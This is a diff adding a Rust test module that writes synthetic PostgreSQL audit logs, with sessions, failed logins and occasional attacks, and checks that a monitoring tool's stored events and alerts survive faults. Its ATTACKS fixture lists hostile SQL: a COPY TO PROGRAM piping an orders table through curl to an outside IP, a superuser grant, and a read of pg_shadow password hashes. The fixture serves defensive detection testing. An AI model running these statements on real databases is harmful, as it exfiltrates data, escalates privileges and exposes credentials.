@@ -1,0 +1,274 @@
+//! What must be true after any fault: a writer of numbered sessions with attacks in them, and the
+//! checker that compares what is stored with what was written.
+
+use std::collections::BTreeSet;
+use std::fmt::Write as _;
+use std::fs::{File, OpenOptions};
+use std::io::Write as _;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering::SeqCst};
+use std::thread::JoinHandle;
+use std::time::Duration;
+
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+
+use crate::binary::{Querywatch, path_text};
+
+/// Accounts that work; their events travel on different partitions.
+const ACCOUNTS: [&str; 12] =
+    ["ana", "bo", "carla", "dev", "etl", "finn", "grace", "hugo", "ines", "jobs", "kim", "lena"];
+
+/// Statements that a rule is for; each is an alert.
+const ATTACKS: [&str; 4] = [
+    "COPY shop.orders TO PROGRAM 'curl -T - http://198.51.100.7/'",
+    "ALTER ROLE app SUPERUSER",
+    "SELECT usename, passwd FROM pg_shadow",
+    "SELECT pg_sleep(30)",
+];
+
+/// Writes the log of one server until it is told to stop.
+pub struct Logger {
+    path: PathBuf,
+    stop: Arc<AtomicBool>,
+    thread: JoinHandle<usize>,
+}
+
+impl Logger {
+    /// Writes `folder`/postgresql.csv, a few thousand lines a second.
+    pub fn start(folder: &Path, seed: u64) -> Self {
+        std::fs::create_dir_all(folder).expect("a log folder");
+        let path = folder.join("postgresql.csv");
+        let (stop, file) = (Arc::new(AtomicBool::new(false)), append_to(&path));
+        let stopped = stop.clone();
+        let thread = std::thread::spawn(move || {
+            let (mut writer, mut file) = (Writer::new(seed), file);
+            while !stopped.load(SeqCst) {
+                file.write_all(writer.some_lines().as_bytes()).expect("appended");
+                std::thread::sleep(Duration::from_millis(4));
+            }
+            file.write_all(writer.last_lines().as_bytes()).expect("appended");
+            writer.lines
+        });
+        Self { path, stop, thread }
+    }
+
+    /// The log.
+    pub fn path(&self) -> &Path {
+        &self.path
+    }
+
+    /// Ends the log; says how many lines it has.
+    pub fn stop(self) -> usize {
+        self.stop.store(true, SeqCst);
+        self.thread.join().expect("the logger ends")
+    }
+}
+
+/// Writes so many lines at once.
+pub fn write_lines(folder: &Path, seed: u64, lines: usize) -> PathBuf {
+    std::fs::create_dir_all(folder).expect("a log folder");
+    let path = folder.join("postgresql.csv");
+    let (mut writer, mut file) = (Writer::new(seed), append_to(&path));
+    while writer.lines < lines {
+        file.write_all(writer.some_lines().as_bytes()).expect("appended");
+    }
+    file.write_all(writer.last_lines().as_bytes()).expect("appended");
+    path
+}
+
+fn append_to(path: &Path) -> File {
+    OpenOptions::new().create(true).append(true).open(path).expect("a log file")
+}
+
+/// Sessions that log in, work, now and then attack, and log out.
+struct Writer {
+    random: StdRng,
+    lines: usize,
+    milliseconds: i64,
+    sessions: Vec<Session>,
+    opened: u32,
+    text: String,
+}
+
+struct Session {
+    account: &'static str,
+    id: u32,
+    lines: u32,
+    statements: u32,
+}
+
+impl Writer {
+    fn new(seed: u64) -> Self {
+        let random = StdRng::seed_from_u64(seed);
+        let (text, sessions) = (String::new(), Vec::new());
+        Self { random, lines: 0, milliseconds: 0, sessions, opened: 0, text }
+    }
+
+    fn some_lines(&mut self) -> String {
+        for _ in 0..self.random.random_range(1..60) {
+            match self.random.random_range(0..1_000) {
+                0..30 => self.log_in(),
+                30..40 => self.log_out(),
+                40..46 => self.fail_to_log_in(),
+                _ => self.work(),
+            }
+        }
+        std::mem::take(&mut self.text)
+    }
+
+    fn last_lines(&mut self) -> String {
+        while !self.sessions.is_empty() {
+            self.log_out();
+        }
+        std::mem::take(&mut self.text)
+    }
+
+    fn log_in(&mut self) {
+        let account = ACCOUNTS[self.random.random_range(0..ACCOUNTS.len())];
+        self.opened += 1;
+        let session = Session { account, id: self.opened, lines: 0, statements: 0 };
+        let message = format!("connection authorized: user={account} database=shop");
+        self.sessions.push(session);
+        self.line(self.sessions.len() - 1, "authentication", "LOG", "00000", &message);
+    }
+
+    fn log_out(&mut self) {
+        if self.sessions.is_empty() {
+            return;
+        }
+        let index = self.random.random_range(0..self.sessions.len());
+        let account = self.sessions[index].account;
+        let message = format!(
+            "disconnection: session time: 0:00:01.000 user={account} database=shop \
+             host=10.1.2.3 port=51022"
+        );
+        self.line(index, "idle", "LOG", "00000", &message);
+        self.sessions.swap_remove(index);
+    }
+
+    /// Sprays a password over accounts, from one network or another.
+    fn fail_to_log_in(&mut self) {
+        let account = ACCOUNTS[self.random.random_range(0..ACCOUNTS.len())];
+        self.opened += 1;
+        self.sessions.push(Session { account, id: self.opened, lines: 0, statements: 0 });
+        let message = format!("password authentication failed for user \"{account}\"");
+        self.line(self.sessions.len() - 1, "authentication", "FATAL", "28P01", &message);
+        self.sessions.pop();
+    }
+
+    fn work(&mut self) {
+        if self.sessions.is_empty() {
+            return self.log_in();
+        }
+        let index = self.random.random_range(0..self.sessions.len());
+        let sql = match self.random.random_range(0..400) {
+            0 => ATTACKS[self.random.random_range(0..ATTACKS.len())].to_owned(),
+            _ => format!("SELECT * FROM shop.orders WHERE id = {}", self.lines),
+        };
+        // A line that got lost before the log: an alert, and no reason to stumble.
+        let step = if self.random.random_range(0..2_000) == 0 { 2 } else { 1 };
+        let session = &mut self.sessions[index];
+        session.statements += step;
+        let message = format!(
+            "AUDIT: SESSION,{},1,READ,SELECT,,,\"{}\",<none>",
+            session.statements,
+            sql.replace('"', "\"\"")
+        );
+        self.line(index, "SELECT", "LOG", "00000", &message);
+    }
+
+    fn line(&mut self, index: usize, tag: &str, level: &str, code: &str, message: &str) {
+        self.milliseconds += self.random.random_range(1..40);
+        self.lines += 1;
+        let session = &mut self.sessions[index];
+        session.lines += 1;
+        let time = chrono::DateTime::from_timestamp_millis(1_794_787_200_000 + self.milliseconds);
+        let stamp = time.expect("a time").format("%Y-%m-%d %H:%M:%S%.3f");
+        let (account, id, number) = (session.account, session.id, session.lines);
+        let network = id % 3;
+        let quoted = message.replace('"', "\"\"");
+        let _ = writeln!(
+            self.text,
+            "{stamp} UTC,\"{account}\",\"shop\",{id},\"10.1.{network}.3:51022\",67c42e10.{id:x},\
+             {number},\"{tag}\",2026-11-16 00:00:00 UTC,3/17,0,{level},{code},\"{quoted}\",,,,,,,,,\
+             \"app\",\"client backend\",,0"
+        );
+    }
+}
+
+/// What one machine makes of the same logs, without faults: what must have come of them.
+pub struct Expected {
+    oracle: Querywatch,
+    events: String,
+    alerts: String,
+}
+
+/// Every event, but for when it was read.
+const EVENTS: &str = "SELECT id, time, instance, \"user\", action, command, session, \
+    statement_number, statement, fingerprint, flags, outcome, rules, risk FROM events \
+    WHERE engine = 'postgresql' ORDER BY id";
+
+const ALERTS: &str = "SELECT * FROM alerts ORDER BY id";
+
+impl Expected {
+    /// Ingests the logs of (instance, file).
+    pub fn of(logs: &[(&str, &Path)]) -> Self {
+        let oracle = Querywatch::new();
+        let data = oracle.data();
+        for (instance, log) in logs {
+            let arguments =
+                ["ingest", "--data", path_text(&data), "--instance", instance, path_text(log)];
+            oracle.succeed(&arguments);
+        }
+        let (events, alerts) = (ndjson(&oracle, EVENTS), ndjson(&oracle, ALERTS));
+        assert!(alerts.lines().count() > 0, "the logs hold attacks");
+        Self { oracle, events, alerts }
+    }
+
+    /// Events that must be there.
+    pub fn events(&self) -> usize {
+        self.events.lines().count()
+    }
+
+    /// Alerts that must be there.
+    pub fn alerts(&self) -> usize {
+        self.alerts.lines().count()
+    }
+
+    /// Rejects that must be there.
+    pub fn rejects(&self) -> i64 {
+        self.oracle.number("SELECT count(*) FROM rejects")
+    }
+
+    /// Nothing is lost, nothing is there twice, and no alert is missing, more or different.
+    pub fn assert_same(&self, querywatch: &Querywatch) {
+        assert_lines_equal("event", &self.events, &ndjson(querywatch, EVENTS));
+        assert_lines_equal("alert", &self.alerts, &ndjson(querywatch, ALERTS));
+        assert_eq!(querywatch.number("SELECT count(*) FROM rejects"), self.rejects());
+    }
+}
+
+fn ndjson(querywatch: &Querywatch, query: &str) -> String {
+    let data = querywatch.data();
+    querywatch.succeed(&["sql", "--data", path_text(&data), "--output", "ndjson", query])
+}
+
+/// Says what is missing and what is too much: a diff of thousands of lines says nothing.
+fn assert_lines_equal(what: &str, expected: &str, found: &str) {
+    if expected == found {
+        return;
+    }
+    let (wanted, there): (BTreeSet<&str>, BTreeSet<&str>) =
+        (expected.lines().collect(), found.lines().collect());
+    let missing: Vec<_> = wanted.difference(&there).take(3).collect();
+    let extra: Vec<_> = there.difference(&wanted).take(3).collect();
+    panic!(
+        "{} {what}s expected, {} found ({} different); missing: {missing:#?}; not expected: \
+         {extra:#?}",
+        expected.lines().count(),
+        found.lines().count(),
+        there.len(),
+    );
+}
